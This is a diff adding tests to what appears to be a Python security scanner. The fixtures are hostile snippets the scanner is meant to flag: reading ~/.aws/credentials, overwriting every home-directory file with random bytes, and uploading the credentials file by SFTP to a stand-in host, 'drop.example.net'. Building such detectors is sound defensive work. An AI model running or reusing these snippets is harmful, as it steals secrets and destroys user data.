@@ -516,3 +516,26 @@ fn parser_defaults_and_command_lines_of_the_programs_own() {
         "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd')\nopts = p.parse_args(['--cmd', input()])\nos.system(opts.cmd)\n",
     );
 }
+
+#[test]
+fn properties_made_with_property_and_path_methods_as_values() {
+    // `x = property(lambda self: ...)` runs on reading `x`; a path's `write_bytes` handed
+    // to a thread writes that path.
+    fires(
+        "CRD205",
+        "import configparser, os\nclass Store:\n    where = property(lambda self: os.path.expanduser('~/.aws/credentials'))\n    def load(self):\n        cp = configparser.ConfigParser()\n        cp.read(self.where)\n        return cp\nStore().load()\n",
+    );
+    fires(
+        "CRD104",
+        "import asyncio, os\nfrom pathlib import Path\nasync def scrub(p):\n    await asyncio.to_thread(p.write_bytes, os.urandom(64))\nasync def main():\n    await asyncio.gather(*(scrub(p) for p in Path.home().rglob('*')))\nasyncio.run(main())\n",
+    );
+}
+
+#[test]
+fn files_uploaded_by_path_are_read() {
+    // `sftp.put(local, remote)` reads the local file: a credential sent out.
+    fires(
+        "CRD109",
+        "import paramiko\nfrom pathlib import Path\nt = paramiko.Transport(('drop.example.net', 22))\nt.connect(username='u', password='p')\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put(str(Path.home() / '.aws' / 'credentials'), '/in/c')\n",
+    );
+}
